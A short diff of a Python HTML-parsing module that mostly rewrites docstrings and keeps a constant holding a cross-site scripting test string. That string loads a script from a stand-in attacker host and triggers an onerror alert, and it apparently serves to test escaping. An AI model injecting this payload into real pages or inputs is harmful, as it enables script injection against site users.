@@ -1,16 +1,23 @@
-"""HTML, parsed strictly."""
+"""Strict parsing of HTML."""
 
 import re
 from html.parser import HTMLParser
 
 VOID = {"meta", "img", "link", "br", "hr", "input"}
 
-
+# A name that would run a script if it were not escaped.
 HOSTILE = "\"><script src=https://evil.example/x.js></script><img src=x onerror=alert(1)>&'.png"
 
 
 class Parsed(HTMLParser):
-    """Tags with their attributes, the text, and every tag that was not closed in its order."""
+    """The content of an HTML text.
+
+    Attributes:
+        tags: The tags with their attributes.
+        words: The text, in pieces.
+        open: Tags that are not closed.
+        misnested: Tags that are closed in the wrong order.
+    """
 
     def __init__(self, html: str) -> None:
         super().__init__()
